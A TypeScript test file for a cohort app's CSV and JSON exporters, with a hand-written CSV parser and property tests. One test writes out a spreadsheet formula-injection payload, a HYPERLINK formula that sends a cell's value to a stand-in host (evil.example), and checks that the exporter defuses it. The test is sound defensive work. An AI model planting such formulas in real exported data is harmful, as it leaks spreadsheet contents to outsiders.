import fc from 'fast-check';
import { expect, test } from 'vitest';
import type { Export } from './cohorts';
import { asCsv, asJson } from './exporting.server';

const letters = [
	{
		key: 'power',
		number: 1,
		short: 'Power',
		steps: [
			{ id: 'ask', text: 'Ask first.' },
			{ id: 'wait', text: 'Wait a breath.' }
		]
	},
	{ key: 'pace', number: 2, short: 'Pace', steps: [{ id: 'slow', text: 'Go slowly.' }] }
];

const taken = (...names: string[]): Export => ({
	cohort: { id: 'c', name: 'Spring circle' },
	exported_at: '2026-11-25T08:00:00Z',
	letters: { power: { ticked: 4, read: 5, read_alone: 2 } },
	steps: { power: { ask: 4, wait: 1 } },
	people: names.map((name) => ({
		name,
		last: 'this week',
		letters: { power: { read: true, steps: 3 } }
	}))
});

/** Reads CSV by the letter of RFC 4180, and by code that is not the writer's. */
function parse(text: string): string[][] {
	const rows: string[][] = [[]];
	let at = text.startsWith('\uFEFF') ? 1 : 0;
	while (at < text.length) {
		let cell = '';
		if (text[at] === '"') {
			for (at++; text[at] !== '"' || text[at + 1] === '"'; at++) {
				cell += text[at];
				if (text[at] === '"') at++;
			}
			at++;
		} else {
			while (at < text.length && text[at] !== ',' && !text.startsWith('\r\n', at))
				cell += text[at++];
		}
		rows.at(-1)?.push(cell);
		if (text[at] === ',') at++;
		else if (text.startsWith('\r\n', at)) {
			at += 2;
			if (at < text.length) rows.push([]);
		} else if (at < text.length) throw new Error(`Neither a comma nor a line’s end at ${at}.`);
	}
	return rows;
}

test('the table holds a row for each person, and two columns for each letter', () => {
	expect(parse(asCsv(taken('Ada'), letters))).toEqual([
		['Name', 'Last', '1 Power: read', '1 Power: steps', '2 Pace: read', '2 Pace: steps'],
		['Ada', 'this week', 'yes', '3', 'no', '0']
	]);
});

test.each(['=', '+', '-', '@', '\t', '\r'])(
	'a name that begins with %j is no formula in a spreadsheet',
	(sign) => {
		const name = `${sign}HYPERLINK("https://evil.example?"&A1,"Ada")`;
		expect(parse(asCsv(taken(name), letters))[1]?.[0]).toBe(`'${name}`);
	}
);

test('whatever people are called, each is one row, as they are called, and none is a formula', () => {
	fc.assert(
		fc.property(fc.array(fc.string({ unit: 'binary', minLength: 1 })), (names) => {
			const [, ...rows] = parse(asCsv(taken(...names), letters));
			expect(rows).toHaveLength(names.length);
			rows.forEach(([name = ''], at) => {
				expect(name.replace(/^'/, '')).toBe(names[at]?.replace(/^'/, ''));
				expect(name).not.toMatch(/^[=+\-@\t\r]/);
			});
		})
	);
});

test('as data it says of each letter and each person what the overview shows, and nothing else', () => {
	expect(JSON.parse(asJson(taken('Ada'), letters))).toEqual({
		format: 'five-letters-cohort',
		version: 1,
		cohort: 'Spring circle',
		exported_at: '2026-11-25T08:00:00Z',
		letters: [
			{
				number: 1,
				letter: 'Power',
				ticked: 4,
				read_alone: 2,
				seldom_practised: [{ text: 'Wait a breath.', people: 1 }]
			},
			{ number: 2, letter: 'Pace', ticked: 0, read_alone: 0, seldom_practised: [] }
		],
		people: [
			{
				name: 'Ada',
				last: 'this week',
				letters: [
					{ number: 1, letter: 'Power', read: true, steps: 3 },
					{ number: 2, letter: 'Pace', read: false, steps: 0 }
				]
			}
		]
	});
});
